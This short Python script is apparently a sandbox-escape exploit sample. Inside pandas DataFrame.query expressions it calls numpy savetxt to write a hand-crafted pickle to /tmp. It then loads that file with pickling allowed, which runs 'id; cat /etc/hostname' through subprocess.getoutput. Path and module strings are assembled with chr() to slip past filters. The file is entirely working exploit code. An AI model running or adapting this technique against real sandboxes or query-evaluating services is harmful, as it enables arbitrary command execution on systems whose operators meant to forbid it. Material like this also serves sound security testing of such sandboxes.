# source: pandas 1.5.3 expr.py BaseExprVisitor.visit_Call + numpy npyio.load pickle fallback; pickle GLOBAL subprocess.getoutput
# family: DataFrame.query "(@f)(...)" call of imported np.savetxt/np.load -> unpickling reaches subprocess
# goal: runs the shell command "id; cat /etc/hostname" inside the sandbox via subprocess.getoutput
import pandas as pd
import numpy as np
from numpy import savetxt, load
df = pd.DataFrame({"a": [1, 2, 3]})
q = chr(47) + "tmp" + chr(47) + "v"
rows2 = np.array(["csub" + "process", "getoutput", "(Vid; cat " + chr(47) + "etc" + chr(47) + "hostname", "tR."])
fmt = chr(37) + "s"
none = None


def show(x):
    print("result:", x)
    return 0


df.query("a > (@show)((@savetxt)(@q, @rows2, @fmt))")
df.query("a > (@show)((@load)(@q, @none, True))")
